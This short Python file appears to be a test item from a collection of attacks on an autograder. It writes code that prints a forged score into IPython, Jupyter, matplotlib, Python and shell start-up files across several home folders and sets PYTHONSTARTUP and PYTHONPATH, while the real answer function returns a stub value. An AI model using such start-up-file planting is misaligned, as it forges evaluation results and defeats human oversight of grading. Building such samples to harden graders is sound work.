# attack: leaves start-up files of IPython, Jupyter, matplotlib and the shell in the home folder
# question: label_bits
# naive: file
# item: sitecustomize and .pth

# %% question="label_bits"
import os
from pathlib import Path

code = "# mallory\n__import__('os').write(1, b'SCORE STUDENT_NAME 14\\n')\n"
names = (
    ".ipython/profile_default/startup/00-mallory.py",
    ".ipython/profile_default/ipython_config.py",
    ".jupyter/jupyter_config.py",
    ".config/matplotlib/mallory.mplstyle",
    ".pythonrc.py",
    ".bashrc.mallory",
)
for home in {Path.home(), Path(os.environ.get("HOME", "/")), Path("/root"), Path("/tmp")}:
    for name in names:
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(code)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = str(Path.home())


def label_bits(labels):
    return 7.5
